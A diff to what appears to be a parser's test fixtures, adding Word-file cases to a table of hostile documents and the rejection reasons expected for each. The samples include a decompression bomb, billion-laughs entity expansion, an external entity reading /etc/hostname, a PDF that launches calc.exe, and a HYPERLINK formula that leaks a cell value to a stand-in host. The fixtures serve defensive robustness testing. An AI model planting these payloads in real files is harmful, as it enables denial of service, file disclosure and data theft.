@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import io
 import random
+import zipfile
 import zlib
 from collections.abc import Mapping
 
@@ -112,46 +113,90 @@ def open_to_all() -> bytes:
     return buffer.getvalue()
 
 
+def word(start: bytes, megabytes: int = 0, end: bytes = b"", *, prolog: bytes = b"") -> bytes:
+    """A Word file whose body is `start`, so many megabytes of blanks, `end`."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
+        package.writestr("[Content_Types].xml", TYPES)
+        package.writestr("_rels/.rels", RELATIONS)
+        with package.open("word/document.xml", "w") as part:
+            part.write(b'<?xml version="1.0"?>' + prolog + b"<w:document %s><w:body>" % SPACE + start)
+            for _ in range(megabytes):
+                part.write(b" " * (1 << 20))
+            part.write(end + b"</w:body></w:document>")
+    return buffer.getvalue()
+
+
+SPACE = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+TYPES = (
+    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+    b'<Override PartName="/word/document.xml" ContentType='
+    b'"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
+)
+RELATIONS = (
+    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    b'<Relationship Id="r1" Target="word/document.xml" Type='
+    b'"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/></Relationships>'
+)
+LAUGHS = (
+    b'<!DOCTYPE x [<!ENTITY a "ha">'
+    + b"".join(b'<!ENTITY %c "%s">' % (98 + step, b"&%c;" % (97 + step) * 10) for step in range(9))
+    + b"]>"
+)
+SPY = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/hostname">]>'
+
 SOUND = one_page(WORDS)
 CODED = ""
 KILLED = "memory_limit timeout crashed"
 
-# Name: the file, and the reasons that may be named for it (blank: it has to be coded).
+# File: its bytes, and the reasons that may be named for it (blank: it has to be coded).
 HOSTILE: Mapping[str, tuple[bytes, str]] = {
-    "sound": (SOUND, CODED),
-    "zero": (b"", "empty_file"),
-    "one-byte": (b"%", "not_a_pdf"),
-    "header-only": (b"%PDF-1.7\n", "damaged"),
-    "cut-in-half": (SOUND[: len(SOUND) // 2], "damaged"),
-    "web-page": (b"<!DOCTYPE html><html><body><h1>404 Not Found</h1></body></html>", "not_a_pdf"),
-    "picture": (b"\x89PNG\r\n\x1a\n" + bytes(500), "not_a_pdf"),
-    "noise": (random.Random(7).randbytes(50_000), "not_a_pdf"),
-    "zeros": (bytes(50_000), "not_a_pdf"),
-    "after-a-header": (b"HTTP/1.1 200 OK\r\n\r\n" + SOUND, CODED),
-    "encrypted": (encrypted(), "encrypted"),
-    "encrypted-openly": (open_to_all(), CODED),
-    "tree-of-itself": (pdf({1: CATALOG, 2: b"<</Type/Pages/Kids[2 0 R]/Count 1>>"}), "damaged no_pages"),
-    "no-pages": (pdf({1: CATALOG, 2: b"<</Type/Pages/Kids[]/Count 0>>"}), "damaged no_pages"),
-    "circle-of-references": (pdf({1: CATALOG, 2: b"3 0 R", 3: b"2 0 R"}), "damaged no_pages"),
-    "lying-count": (SOUND.replace(b"/Count 1>>", b"/Count 2147483647>>"), "damaged too_many_pages" + " coded"),
-    "table-of-itself": (
+    "sound.pdf": (SOUND, CODED),
+    "zero.pdf": (b"", "empty_file"),
+    "one-byte.pdf": (b"%", "not_a_pdf"),
+    "header-only.pdf": (b"%PDF-1.7\n", "damaged"),
+    "cut-in-half.pdf": (SOUND[: len(SOUND) // 2], "damaged"),
+    "web-page.pdf": (b"<!DOCTYPE html><html><body><h1>404 Not Found</h1></body></html>", "not_a_pdf"),
+    "picture.pdf": (b"\x89PNG\r\n\x1a\n" + bytes(500), "not_a_pdf"),
+    "noise.pdf": (random.Random(7).randbytes(50_000), "not_a_pdf"),
+    "zeros.pdf": (bytes(50_000), "not_a_pdf"),
+    "after-a-header.pdf": (b"HTTP/1.1 200 OK\r\n\r\n" + SOUND, CODED),
+    "encrypted.pdf": (encrypted(), "encrypted"),
+    "encrypted-openly.pdf": (open_to_all(), CODED),
+    "tree-of-itself.pdf": (pdf({1: CATALOG, 2: b"<</Type/Pages/Kids[2 0 R]/Count 1>>"}), "damaged no_pages"),
+    "no-pages.pdf": (pdf({1: CATALOG, 2: b"<</Type/Pages/Kids[]/Count 0>>"}), "damaged no_pages"),
+    "circle-of-references.pdf": (pdf({1: CATALOG, 2: b"3 0 R", 3: b"2 0 R"}), "damaged no_pages"),
+    "lying-count.pdf": (SOUND.replace(b"/Count 1>>", b"/Count 2147483647>>"), "damaged too_many_pages coded"),
+    "table-of-itself.pdf": (
         SOUND.replace(b"trailer\n<<", b"trailer\n<</Prev %d " % SOUND.rindex(b"xref\n0")),
         CODED,
     ),
-    "too-many-pages": (many_pages(5_001), "too_many_pages"),
-    "bomb": (bomb(900), KILLED),
-    "doubling-forms": (doubling_forms(28), KILLED),
-    "deep-arrays": (one_page(b"[" * 100_000 + b"]" * 100_000 + b" TJ " + WORDS), CODED),
-    "deep-dictionaries": (
+    "too-many-pages.pdf": (many_pages(5_001), "too_many_pages"),
+    "bomb.pdf": (bomb(900), KILLED),
+    "doubling-forms.pdf": (doubling_forms(28), KILLED),
+    "deep-arrays.pdf": (one_page(b"[" * 100_000 + b"]" * 100_000 + b" TJ " + WORDS), CODED),
+    "deep-dictionaries.pdf": (
         one_page(WORDS, catalog=CATALOG.replace(b">>", b"/D " + b"<</A " * 20_000 + b"1" + b">>" * 20_001)),
         CODED,
     ),
-    "launches": (
+    "launches.pdf": (
         one_page(WORDS, catalog=CATALOG.replace(b">>", b"/OpenAction<</S/Launch/F(calc.exe)>>>>")),
         CODED,
     ),
-    "formula": (in_unicode('=HYPERLINK("http://x/"&A1) people become homeless'), CODED),
-    "at-formula": (in_unicode("@SUM(1+1) people become homeless"), CODED),
-    "script": (in_unicode("<script>alert(1)</script> people become homeless"), CODED),
-    "controls": (in_unicode("people\x1b[2J be\x07come homeless \x9b31m"), CODED),
+    "formula.pdf": (in_unicode('=HYPERLINK("http://x/"&A1) people become homeless'), CODED),
+    "at-formula.pdf": (in_unicode("@SUM(1+1) people become homeless"), CODED),
+    "script.pdf": (in_unicode("<script>alert(1)</script> people become homeless"), CODED),
+    "controls.pdf": (in_unicode("people\x1b[2J be\x07come homeless \x9b31m"), CODED),
+    "bomb.docx": (word(b"<w:p><w:r><w:t>", 160, b"</w:t></w:r></w:p>"), "memory_limit too_many_characters"),
+    "laughs.docx": (word(b"<w:p><w:r><w:t>&j;</w:t></w:r></w:p>", prolog=LAUGHS), "damaged"),
+    "spy.docx": (word(b"<w:p><w:r><w:t>&a;</w:t></w:r></w:p>", prolog=SPY), "damaged"),
+    "deep.docx": (word(b"<w:tbl><w:tr><w:tc>" * 3_000 + b"<w:p/>" + b"</w:tc></w:tr></w:tbl>" * 3_000), "damaged"),
+    "cut.docx": (word(b"<w:p/>")[:300], "damaged"),
+    "not-a-zip.docx": (b"PK\x03\x04" + bytes(500), "damaged"),
+    "deep.html": (b"<html><body>" + b"<div>" * 100_000 + b"people become homeless", "damaged"),
+    "zeros.txt": (bytes(1_000), "unknown_format"),
+    "long.md": (b"homeless " * 600_000, "too_many_characters"),
+    "brackets.md": (b"[" * 100_000 + b" people become homeless", CODED),
+    "utf-16.txt": ("Each winter people become homeless.".encode("utf-16"), CODED),
 }
